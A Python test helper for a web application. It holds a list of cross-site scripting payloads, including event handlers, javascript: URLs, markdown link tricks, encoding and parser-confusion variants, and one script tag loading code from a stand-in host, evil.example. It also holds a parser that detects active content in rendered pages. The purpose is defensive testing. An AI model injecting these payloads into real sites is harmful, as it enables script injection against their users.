"""Hostile strings a person could type into any field. Each tries to run script
(calling alert) if it ever reaches a page unescaped or unsanitised."""

import re
from html.parser import HTMLParser

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](<javascript:alert(1)>)",
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    '[x](https://example.org" onmouseover="alert(1))',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "{{ 7*7 }}{% debug %}",
    "\u202e<script>alert(1)</script>",
]


class ActiveContentFinder(HTMLParser):
    """Everything in an HTML page that could run script other than our own static files."""

    # Inline <svg> icons are allowed (the admin uses them); their attributes are checked below.
    UNSAFE_TAGS = {"iframe", "object", "embed", "math", "img", "base", "frame", "foreignobject"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self._in_script = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            src = attributes.get("src") or ""
            if attributes.get("type") in {"application/ld+json", "application/json"}:
                self._in_script = "json"
            elif src.startswith("/") and not src.startswith("//"):  # our own origin
                self._in_script = "static"
            else:
                self.found.append(f"script {attrs}")
                self._in_script = "inline"
        elif tag in {"meta", "link"}:
            # Our own head may use these, but never with a script URL.
            for name in ("content", "href"):
                if re.search(r"javascript:|data:text/html", attributes.get(name) or "", re.I):
                    self.found.append(f"{tag}[{name}]")
        elif tag in self.UNSAFE_TAGS:
            own_image = tag == "img" and (attributes.get("src") or "").startswith("/static/")
            if not own_image:
                self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"srcdoc", "formaction"}:
                self.found.append(f"{tag}[{name}]")
            if name in {"href", "src", "action", "data"} and re.match(
                r"^\s*(javascript|vbscript|data):", value or "", re.I
            ):
                self.found.append(f"{tag}[{name}={value}]")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = None

    def handle_data(self, data):
        if self._in_script == "inline" and data.strip():
            self.found.append(f"inline script: {data[:40]}")


def active_content(html):
    finder = ActiveContentFinder()
    finder.feed(html)
    return finder.found
